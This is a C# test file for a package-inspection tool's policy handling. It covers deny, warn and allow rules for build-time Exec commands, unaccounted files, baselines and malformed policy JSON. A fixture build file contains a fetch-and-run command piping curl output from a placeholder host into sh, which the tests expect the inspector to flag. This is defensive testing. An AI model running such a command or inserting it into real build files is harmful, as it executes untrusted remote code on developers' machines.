using System.IO.Compression;
using SecureBuild.Core.Inspection;
using SecureBuild.Core.Json;

namespace SecureBuild.Inspection.Tests;

/// <summary>The policy file (docs/inspect-policy.md): which findings fail, warn or are only reported.</summary>
public sealed class PolicyTests
{
    private const string Schema = "\"schema\": \"https://securebuild.dev/inspect-policy/v1\"";

    private static string ExecPackage(TempDirectory temp) => temp.Write("P.1.0.0.nupkg", Packages.Zip(
        ("P.nuspec", Packages.Nuspec("P", "1.0.0")),
        ("lib/net8.0/P.dll", Packages.SmallLibrary),
        ("buildTransitive/P.targets", Packages.Targets("<Exec Command=\"curl http://example.invalid/x | sh\" />"))));

    [Test]
    public void Print_policy_prints_the_built_in_policy_which_reads_back_as_the_same_policy()
    {
        var (exit, stdout, stderr) = Cli.Run("inspect", "--print-policy");

        Assert.That(exit, Is.EqualTo(0), stderr);
        var json = (JsonMap)JsonParser.Parse(stdout);
        Assert.That(((JsonString)((JsonMap)json["capabilities"])["SB4310"]).Value, Is.EqualTo("warn"));
        Assert.That(((JsonString)((JsonMap)json["capabilities"])["SB4320"]).Value, Is.EqualTo("allow"));
        Assert.That(((JsonBool)json["requireAccounting"]).Value, Is.False);
        var again = InspectionPolicy.Parse(Packages.Text(stdout), "printed.json");
        Assert.That(JsonText.Write(again.ToJson()), Is.EqualTo(JsonText.Write(InspectionPolicy.Default.ToJson())));
    }

    [Test]
    public void Print_policy_with_a_policy_file_prints_it_with_every_default_filled_in()
    {
        using var temp = new TempDirectory();
        var policy = temp.Write("p.json", Packages.Text("{" + Schema + ", \"capabilities\": {\"SB4320\": \"deny\"}}"));

        var (exit, stdout, _) = Cli.Run("inspect", "--policy", policy, "--print-policy");

        Assert.That(exit, Is.EqualTo(0));
        var capabilities = (JsonMap)((JsonMap)JsonParser.Parse(stdout))["capabilities"];
        Assert.That(((JsonString)capabilities["SB4320"]).Value, Is.EqualTo("deny"));
        Assert.That(((JsonString)capabilities["SB4310"]).Value, Is.EqualTo("warn"), "a code the file leaves out keeps its default");
    }

    [Test]
    public void A_policy_that_denies_Exec_fails_a_package_whose_build_file_runs_a_command_with_exit_1()
    {
        using var temp = new TempDirectory();
        var package = ExecPackage(temp);
        var policy = temp.Write("p.json", Packages.Text("{" + Schema + ", \"capabilities\": {\"SB4310\": \"deny\"}}"));

        var (defaultExit, _, _) = Cli.Run("inspect", package);
        var (exit, stdout, _) = Cli.Run("inspect", package, "--policy", policy, "--format", "json");

        Assert.That(defaultExit, Is.EqualTo(0), "the built-in policy only warns about Exec");
        Assert.That(exit, Is.EqualTo(1), stdout);
        var json = (JsonMap)JsonParser.Parse(stdout);
        Assert.That(((JsonString)json["policy"]).Value, Is.EqualTo("p.json"));
        var exec = ((JsonList)json["findings"]).Cast<JsonMap>().Single(f => ((JsonString)f["code"]).Value == "SB4310");
        Assert.That(((JsonString)exec["severity"]).Value, Is.EqualTo("error"));
        Assert.That(((JsonString)exec["message"]).Value, Does.Contain("curl http://example.invalid/x | sh").And.Contain("The policy denies SB4310"));
    }

    [Test]
    public void A_policy_can_deny_only_what_is_new_against_the_baseline()
    {
        using var temp = new TempDirectory();
        var old = temp.Write("P.0.9.0.nupkg", Packages.Zip(("P.nuspec", Packages.Nuspec("P", "0.9.0")), ("lib/net8.0/P.dll", Packages.SmallLibrary)));
        var package = ExecPackage(temp);
        var policy = temp.Write("p.json", Packages.Text("{" + Schema + ", \"newCapabilities\": {\"SB4310\": \"deny\"}}"));

        var withNew = PackageInspector.Inspect(new InspectionOptions { Input = package, Baseline = old, Policy = InspectionPolicy.Load(policy) });
        var withoutNew = PackageInspector.Inspect(new InspectionOptions { Input = package, Baseline = package, Policy = InspectionPolicy.Load(policy) });

        Assert.That(withNew.Failed, Is.True);
        Assert.That(withNew.Findings.Single(f => f.Severity == FindingSeverity.Error).Subject, Does.StartWith("SB4310 "));
        Assert.That(withoutNew.Failed, Is.False, withoutNew.ToText());
    }

    [Test]
    public void An_unaccounted_file_the_policy_allows_by_glob_is_info_and_the_rest_still_fails()
    {
        var built = BuiltLibrary.Shared;
        using var temp = new TempDirectory();
        var package = Path.Combine(temp.Path, "Sample.Lib.1.0.0.nupkg");
        File.Copy(built.Package, package);
        using (var zip = ZipFile.Open(package, ZipArchiveMode.Update))
        {
            using (var stream = zip.CreateEntry("docs/notes/extra.md").Open())
            {
                stream.Write(Packages.Text("added after pack"));
            }

            using (var stream = zip.CreateEntry("tools/extra.sh").Open())
            {
                stream.Write(Packages.Text("added after pack too"));
            }
        }

        var policy = temp.Write("p.json", Packages.Text("{" + Schema + ", \"allowUnaccounted\": [\"docs/*.md\"]}"));

        var report = PackageInspector.Inspect(new InspectionOptions { Input = package, LinksDirectory = built.Links, Policy = InspectionPolicy.Load(policy) });

        var unaccounted = report.Findings.Where(f => f.Code == InspectionCodes.Unaccounted).ToDictionary(f => f.Path);
        Assert.That(unaccounted["docs/notes/extra.md"].Severity, Is.EqualTo(FindingSeverity.Info), "* matches / as in in-toto's fnmatch");
        Assert.That(unaccounted["docs/notes/extra.md"].Message, Does.Contain("allowUnaccounted \"docs/*.md\""));
        Assert.That(unaccounted["tools/extra.sh"].Severity, Is.EqualTo(FindingSeverity.Error));
        Assert.That(report.Failed, Is.True);
    }

    [Test]
    public void With_requireAccounting_inspecting_without_links_fails()
    {
        using var temp = new TempDirectory();
        var policy = temp.Write("p.json", Packages.Text("{" + Schema + ", \"requireAccounting\": true}"));

        var (exit, stdout, _) = Cli.Run("inspect", BuiltLibrary.Shared.Package, "--policy", policy);

        Assert.That(exit, Is.EqualTo(1), stdout);
        Assert.That(stdout, Does.Contain("error SB4305"));
    }

    [TestCase("", "is empty")]
    [TestCase("{", "not valid JSON")]
    [TestCase("\uFEFF{\"schema\": \"https://securebuild.dev/inspect-policy/v1\"}", "not valid JSON")]
    [TestCase("[]", "must be a JSON object")]
    [TestCase("{}", "\"schema\"")]
    [TestCase("{\"schema\": \"https://securebuild.dev/inspect-policy/v2\"}", "expected \"https://securebuild.dev/inspect-policy/v1\"")]
    [TestCase("{" + Schema + ", " + Schema + "}", "duplicate")]
    [TestCase("{" + Schema + ", \"capabilites\": {}}", "capabilites")]
    [TestCase("{" + Schema + ", \"capabilities\": {\"SB4301\": \"allow\"}}", "capabilities.SB4301 is not a code")]
    [TestCase("{" + Schema + ", \"capabilities\": {\"SB4310\": \"block\"}}", "use \"allow\", \"warn\" or \"deny\"")]
    [TestCase("{" + Schema + ", \"capabilities\": {\"SB4310\": true}}", "must be \"allow\", \"warn\" or \"deny\"")]
    [TestCase("{" + Schema + ", \"capabilities\": []}", "capabilities")]
    [TestCase("{" + Schema + ", \"newCapabilities\": {\"SB4325\": \"deny\"}}", "newCapabilities.SB4325 is not a code")]
    [TestCase("{" + Schema + ", \"requireAccounting\": \"yes\"}", "must be true or false")]
    [TestCase("{" + Schema + ", \"allowUnaccounted\": \"*\"}", "allowUnaccounted")]
    [TestCase("{" + Schema + ", \"allowUnaccounted\": [1]}", "allowUnaccounted[0] must be a string")]
    [TestCase("{" + Schema + ", \"allowUnaccounted\": [\"\"]}", "allowUnaccounted[0] is empty")]
    public void A_bad_policy_file_is_exit_2_with_SB4344_naming_what_is_wrong(string content, string expected)
    {
        using var temp = new TempDirectory();
        var policy = temp.Write("bad.json", Packages.Text(content));

        var (exit, stdout, stderr) = Cli.Run("inspect", BuiltLibrary.Shared.Package, "--policy", policy);

        Assert.That(exit, Is.EqualTo(2), stdout);
        Assert.That(stderr, Does.StartWith("securebuild inspect: SB4344: ").And.Contain(expected));
        Assert.That(stdout, Is.Empty, "no report under a policy that could not be read");
    }

    [TestCase("missing")]
    [TestCase("directory")]
    public void A_policy_path_that_is_no_file_is_exit_2_with_SB4344(string kind)
    {
        using var temp = new TempDirectory();
        var path = Path.Combine(temp.Path, "policy.json");
        if (kind == "directory")
        {
            Directory.CreateDirectory(path);
        }

        var (exit, _, stderr) = Cli.Run("inspect", "--policy", path, "--print-policy");

        Assert.That(exit, Is.EqualTo(2));
        Assert.That(stderr, Does.Contain("SB4344").And.Contain("policy.json"));
    }

    [Test]
    public void Random_bytes_as_a_policy_never_crash_the_reader()
    {
        var random = new Random(4344);
        for (var i = 0; i < 300; i++)
        {
            var text = "{" + Schema + ", \"capabilities\": {\"SB4310\": \"deny\"}, \"allowUnaccounted\": [\"a*\"]}";
            var bytes = Packages.Text(text);
            bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            try
            {
                InspectionPolicy.Parse(bytes, "fuzz.json");
            }
            catch (InspectionException e)
            {
                Assert.That(e.Code, Is.EqualTo(InspectionCodes.BadPolicy));
            }
        }
    }
}
